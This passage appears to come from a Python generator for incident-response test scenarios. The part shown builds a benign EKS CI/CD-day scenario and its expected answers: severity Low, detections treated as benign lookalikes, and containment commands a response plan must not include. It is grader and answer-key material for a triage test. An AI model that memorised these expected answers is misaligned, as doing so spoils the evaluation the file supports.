             "evidence": "GuardDuty Execution:Kubernetes/ExecInKubeSystemPod (severity 5) is the SRE's exec at 20:06:02; Falco "
                         "Terminal shell in container is the same exec; Falco Contact K8S API Server From Container is "
                         "cluster-autoscaler, an API client by design"},
        ],
        "why_not_higher": [
            "Deployment changes are authorised: CI identity from the CI runner, images from this account's ECR (payments-api, payments-worker)",
            "UpdateNodegroupConfig / security-group changes come from Terraform (user agent Terraform/1.7.5, CI role); the new rule is VPC-internal (10.42.0.0/16), nothing opened to 0.0.0.0/0",
            "new nodes are in the expected node group prod-payments-general and launched by the Auto Scaling service-linked role after the autoscaler's SetDesiredCapacity",
            "exec into kube-system and the DaemonSet restart are by platform-admin (admin_principals) inside the maintenance window",
        ],
        "entities": {
            "account": S.account, "region": S.region, "cluster": S.cluster, "cluster_arn": S.cluster_arn,
            "cicd_identities": {f"arn:aws:iam::{S.account}:role/{B['gha_role']}": B["gha_user"],
                                f"arn:aws:iam::{S.account}:role/{B['tf_role']}": B["tf_user"]},
            "ci_source_ip": B["ci_ip"], "admin_principal": f"arn:aws:iam::{S.account}:role/{B['admin_role']}",
            "admin_k8s_username": B["admin_user"], "admin_source_ip": B["sre_ip"], "maintenance_window": list(B["window"]),
            "autoscaler": {"k8s_username": "system:serviceaccount:kube-system:cluster-autoscaler",
                           "iam_role": f"arn:aws:iam::{S.account}:role/{B['ca_role']}", "pod": f"kube-system/{B['ca_pod']}"},
            "autoscaling_group": B["asg"], "nodegroup": B["ng"], "node_security_group": B["node_sg"],
            "nodes_added": {n4.name: n4.instance, n5.name: n5.instance}, "nodes_removed": {n5.name: n5.instance},
            "images": sorted(set(B["images"].values())),
            "deployments_changed": ["payments/payments-api", "payments/payments-worker"], "daemonset_restarted": "kube-system/aws-node",
        },
        "timeline": [
            {"time": when("ci-deploy-0902", "patch deployments"), "tag": "INCIDENT", "text": "github-actions-deploy: payments-api image -> 2026.03.25-1 (patch)", "likely_benign": "CI/CD deployment"},
            {"time": when("autoscaler-scale-up", "autoscaling:SetDesiredCapacity"), "tag": "INCIDENT", "text": "prod-payments-cluster-autoscaler: SetDesiredCapacity 5", "likely_benign": "autoscaling"},
            {"time": when("nodes-join", "create nodes"), "tag": "INCIDENT", "text": "nodes ip-10-42-39-201 and ip-10-42-71-88 join", "likely_benign": "autoscaling"},
            {"time": when("ci-deploy-1137", "update deployments"), "tag": "INCIDENT", "text": "github-actions-deploy: payments-worker updated (update)", "likely_benign": "CI/CD deployment"},
            {"time": when("terraform-apply", "eks:UpdateNodegroupConfig"), "tag": "INCIDENT", "text": "Terraform: UpdateNodegroupConfig, AuthorizeSecurityGroupIngress 9443 from 10.42.0.0/16, RevokeSecurityGroupIngress", "likely_benign": "CI/CD (terraform)"},
            {"time": when("ci-deploy-1520", "patch deployments"), "tag": "INCIDENT", "text": "github-actions-deploy: payments-api image -> 2026.03.25-2 (patch)", "likely_benign": "CI/CD deployment"},
            {"time": when("autoscaler-scale-down", "patch nodes"), "tag": "INCIDENT", "text": "cluster-autoscaler drains ip-10-42-71-88 and terminates i-0def4567a8901b234", "likely_benign": "autoscaling"},
            {"time": when("sre-maintenance", "get pods/exec"), "tag": "INCIDENT", "text": "platform-admin execs into kube-system/aws-node on ip-10-42-39-201", "likely_benign": "administrative maintenance"},
            {"time": "2026-03-25T20:12:44.318Z", "tag": "DETECTION", "text": "GuardDuty Execution:Kubernetes/ExecInKubeSystemPod", "likely_benign": "administrative maintenance"},
            {"time": when("sre-maintenance", "patch daemonsets"), "tag": "INCIDENT", "text": "platform-admin: rollout restart daemonset/aws-node", "likely_benign": "administrative maintenance"},
        ],
        "benign_lookalikes": [
            "eks:UpdateNodegroupConfig (part of the playbook's first triage query) by Terraform from the CI",
            "ec2:AuthorizeSecurityGroupIngress / RevokeSecurityGroupIngress on the node security group by Terraform (VPC-internal source)",
            "patch/update of Deployments in payments by the CI identity; ReplicaSet and pod churn by the controllers",
            "ec2:RunInstances / TerminateInstances by the Auto Scaling service-linked role; autoscaling:SetDesiredCapacity / TerminateInstanceInAutoScalingGroup by the autoscaler's IRSA role",
            "node taint patch and pod evictions by system:serviceaccount:kube-system:cluster-autoscaler; node deleted by eks:cloud-controller-manager",
            "new system:node:* identities creating Node, CSR and Lease objects",
            "exec (WebSocket, verb get) into kube-system pods and a DaemonSet restart by platform-admin in the maintenance window; GuardDuty ExecInKubeSystemPod and Falco Terminal shell in container for it",
            "Falco Contact K8S API Server From Container for cluster-autoscaler",
            "kube-proxy is privileged and aws-node uses hostNetwork and hostPath (EKS defaults)",
        ],
        "steps": BCD_STEPS,
    }
    actors = lambda r: r["source"] in ("cloudtrail", "guardduty", "falco") or not r.get("actor", "").startswith("system:")
    head["expect"] = lambda recs: {
        "severity": "Low",
        "criteria_not": ["critical.cluster_admin", "critical.data_exfiltration", "critical.multiple_nodes",
                         "critical.active_exploitation", "critical.production_impact", "high.privileged_pods",
                         "high.lateral_movement", "high.unauthorised_deployment_change", "high.unusual_network",
                         "high.sensitive_config_exposure"],
        "timeline": [],
        # what people and pipelines did (not the controllers' churn): never in the incident unless marked likely benign
        "timeline_not": lookalike_records(recs, lambda r: r["step"] != "background" and actors(r)),
        "not_affected": [{"kind": "iam_role", "name": B["gha_role"]}, {"kind": "iam_role", "name": B["tf_role"]},
                         {"kind": "iam_role", "name": B["admin_role"]}, {"kind": "node", "name": n4.name},
                         {"kind": "node", "name": n5.name}, {"kind": "security_group", "name": B["node_sg"]}],
        "plan_not": [
            {"phase": "contain", "argv": ["kubectl", "cordon"]},
            {"phase": "contain", "argv": ["iam", "update-access-key"]},
            {"phase": "contain", "argv": ["iam", "put-role-policy"]},
            {"phase": "contain", "argv": ["eks", "update-cluster-config"]},
            {"phase": "contain", "argv": ["ec2", "revoke-security-group-ingress"]},
        ],
    }
    for r in S.CT + S.AUDIT + S.FALCO + S.FINDINGS:
        assert r[1] == "benign"
    counts = write_truth(os.path.join(out, "benign-cicd-day.truth.json"), head, files)
    return base, files, counts, check(base)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--out", default=os.path.join(os.path.dirname(os.path.abspath(__file__)), "scenarios"),
                    help="directory that receives the scenario folders and their truth files")
    args = ap.parse_args()
    bad = 0
    for build in (build_web_pod_miner, build_benign_day):
        base, files, counts, problems = build(args.out)
        print(f"{os.path.basename(base)}:")
        for k in sorted(files):
            print(f"  {files[k]:5d}  {k}")
        print(f"  ground truth: {counts['attack']} attack records, {counts['benign']} benign records")
        for p in problems:
            print(f"make-scenarios: {os.path.basename(base)}: {p}", file=sys.stderr)
        bad += len(problems)
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
